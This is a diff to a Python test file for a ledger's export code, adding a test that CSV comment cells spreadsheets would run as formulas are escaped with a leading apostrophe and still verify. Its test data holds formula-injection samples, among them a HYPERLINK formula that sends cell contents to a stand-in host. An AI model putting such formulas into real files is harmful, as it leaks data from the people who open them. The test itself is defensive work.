@@ -7,6 +7,8 @@ export fails at the entry that does not match, and an anchor catches a rewritten
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import re
 import subprocess
 import sys
@@ -25,7 +27,7 @@ from tests.workflows.test_ledger import MIGRATIONS, activity, run_concurrently, 
 from workflows.domain import AuditType
 from workflows.ledger import Ledger
 from workflows.ledger.chain import GENESIS_HASH, ChainBroken, content_of, seal
-from workflows.ledger.export_format import CSV, JSONL
+from workflows.ledger.export_format import CSV, CSV_COLUMNS, JSONL
 
 AWKWARD = 'line one\nline "two",\r\n=SUM(A1) — ünïcødé 🚀'
 REPO = Path(__file__).resolve().parents[2]
@@ -89,6 +91,24 @@ async def test_export_round_trip(ledger: Ledger, fmt: str) -> None:
     await fill(ledger)
     assert records_of(await export_text(ledger, fmt))[1:] == records_of(exported)[1:]
     assert (await ledger.audit.head()).length == 9
+
+
+async def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_still_verify(
+    ledger: Ledger,
+) -> None:
+    formulas = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)",
+                "\tx", "'quoted", "''twice"]  # fmt: skip
+    await ledger.requests.record(
+        snapshot=snapshot("req-f"),
+        entries=[activity("req-f", n, comment=text) for n, text in enumerate(formulas)],
+    )
+    exported = await export_text(ledger, CSV)
+
+    cells = [row[CSV_COLUMNS.index("comment")] for row in csv.reader(io.StringIO(exported))]
+    assert cells[2 : 2 + len(formulas)] == ["'" + text for text in formulas]
+    assert verify_text(exported).entries == len(formulas)
+    entries = [r for r in records_of(exported) if r["record"] == "entry"]
+    assert [r["comment"] for r in entries] == formulas
 
 
 async def test_slices_by_time_and_model_verify(ledger: Ledger) -> None:
